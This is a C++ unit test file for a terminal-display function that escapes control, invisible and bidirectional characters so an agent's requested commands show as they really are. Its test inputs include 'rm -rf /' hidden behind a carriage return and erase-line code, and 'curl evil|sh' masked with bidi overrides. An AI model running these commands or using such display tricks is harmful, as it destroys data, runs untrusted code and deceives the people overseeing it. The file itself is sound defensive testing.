#include "common/text/visible.h"

#include "gtest/gtest.h"

namespace termbridge::text {
namespace {

TEST(VisibleTest, PrintableTextIsUnchanged) {
  EXPECT_EQ(Visible("git status --short"), "git status --short");
  EXPECT_EQ(Visible("echo 'naïve' → 日本語 \\n"), "echo 'naïve' → 日本語 \\n");
  EXPECT_EQ(Visible(""), "");
}

// The spoof a review found: a carriage return and "erase line" after the
// real command, so a terminal shows only the harmless text after them.
TEST(VisibleTest, ATerminalCannotBeToldToHideTheRealCommand) {
  EXPECT_EQ(Visible("rm -rf / #\r\x1b[2K    git status"), "rm -rf / #\\r\\e[2K    git status");
  EXPECT_EQ(Visible("reason\n    decided by policy"), "reason\\n    decided by policy");
  EXPECT_EQ(Visible(std::string("a\0b\x07\x7f", 5)), "a\\x00b\\x07\\x7f");
  EXPECT_EQ(Visible("\t"), "\\t");
}

TEST(VisibleTest, C1ControlsAndBytesThatAreNotUtf8AreEscaped) {
  EXPECT_EQ(Visible("\xc2\x9b"
                    "2K"),
            "\\u009b2K");                      // U+009B: CSI as one character
  EXPECT_EQ(Visible("\xc2\xa0"), "\xc2\xa0");  // U+00A0 is printable
  EXPECT_EQ(Visible("\x9b"
                    "2K"),
            "\\x9b2K");                                   // a lone C1 byte
  EXPECT_EQ(Visible("\xe2\x82"), "\\xe2\\x82");           // a truncated character
  EXPECT_EQ(Visible("\xc0\xaf"), "\\xc0\\xaf");           // an overlong '/'
  EXPECT_EQ(Visible("\xed\xa0\x80"), "\\xed\\xa0\\x80");  // a UTF-16 surrogate
}

// A bidi override reorders a line as shown ("Trojan Source"): the command
// an agent asks for could read as commented out while the shell runs all
// of it. Every character that changes how others show is escaped.
TEST(VisibleTest, BidiControlsAndInvisibleCharactersAreEscaped) {
  EXPECT_EQ(Visible("ls \u202e\u2066; curl evil|sh\u2069\u2066#\u2069"),
            "ls \\u202e\\u2066; curl evil|sh\\u2069\\u2066#\\u2069");
  EXPECT_EQ(Visible("rm\u200b -rf"), "rm\\u200b -rf");         // zero width space
  EXPECT_EQ(Visible("a\u00adb\ufeffc"), "a\\u00adb\\ufeffc");  // soft hyphen, BOM
  EXPECT_EQ(Visible("x\U000E0041y"), "x\\U000e0041y");         // a tag character
  EXPECT_EQ(Visible("\u3164"), "\\u3164");                     // a blank letter
  // Letters, marks and symbols people read stay as they are.
  EXPECT_EQ(Visible("caf\u00e9 \u05e9\u05dc\u05d5\u05dd \u2713 \U0001F600"),
            "caf\u00e9 \u05e9\u05dc\u05d5\u05dd \u2713 \U0001F600");
}

}  // namespace
}  // namespace termbridge::text
